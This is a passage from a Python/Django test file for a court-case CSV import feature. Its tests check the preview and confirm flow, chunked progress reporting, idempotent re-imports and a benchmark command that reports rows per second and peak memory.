    # Confirming a file whose preview has not run yet only shows the page again.
    assert confirm(client, token).context["stage"] == "running"
    assert queued == [token]

    assert uploads.upload_run(token=token) == "done"  # what the worker does
    preview = client.get(reverse("cases:import_status", args=[token]))
    assert preview.context["stage"] == "preview"
    assert 'data-count="created">1<' in preview.content.decode()
    assert "refresh" not in preview.context or not preview.context["refresh"]
    assert uploads.upload_run(token=token) == "done"  # a done run is not repeated
    assert Case.objects.count() == 0


def test_a_run_reports_its_progress_in_the_note(client, office, tmp_path, monkeypatch):
    monkeypatch.setattr(services, "CHUNK_ROWS", 100)
    monkeypatch.setattr(uploads, "PROGRESS_EVERY", 0)
    seen = []
    real_update = uploads.Upload.job_update

    def recorded(self, **fields):
        real_update(self, **fields)
        seen.append({key: self.job.get(key) for key in ("status", "step", "done", "total")})

    monkeypatch.setattr(uploads.Upload, "job_update", recorded)
    path = tmp_path / "big.csv"
    write_synthetic_file(path, 1000, as_of=D(2025, 6, 30), seed=3)
    client.force_login(office)
    token = upload(client, path).context["upload"].token
    confirm(client, token)

    reading = [e for e in seen if e["step"] == "big.csv" and e["status"] == "running"]
    assert len(reading) >= 4  # chunk by chunk, for the preview and for the import
    assert {entry["total"] for entry in reading} == {path.stat().st_size}
    done = [entry["done"] for entry in reading]
    assert 0 < done[0] < path.stat().st_size and done[-1] == path.stat().st_size
    assert any(entry["step"] == "计算审限与上诉、再审关联…" for entry in seen)
    assert seen[-1]["status"] == "done"
    assert Case.objects.count() == 1000


def test_the_bench_file_is_valid_and_a_second_import_changes_nothing(tmp_path, monkeypatch):
    monkeypatch.setattr(services, "CHUNK_ROWS", 300)
    path = tmp_path / "bench.csv"
    write_synthetic_file(path, 1200, as_of=D(2025, 6, 30), seed=7)

    first = run(path)
    second = run(path)

    assert first.counts() == {"created": 1200, "updated": 0, "unchanged": 0, "rejected": 0}
    assert second.counts() == {"created": 0, "updated": 0, "unchanged": 1200, "rejected": 0}
    appealed = Case.objects.filter(derived_cases__procedure="second_instance")
    assert appealed.exists()
    assert not appealed.filter(effective_appealed=False).exists()


def test_bench_import_generates_imports_and_reports_its_figures():
    out = io.StringIO()

    call_command("bench_import", rows=300, verbosity=0, stdout=out)

    assert "新增 300 条，更新 0 条，未变 0 条，拒绝 0 条" in out.getvalue()
    assert "rows/s:" in out.getvalue() and "peak memory (ru_maxrss):" in out.getvalue()
    assert Case.objects.count() == 300
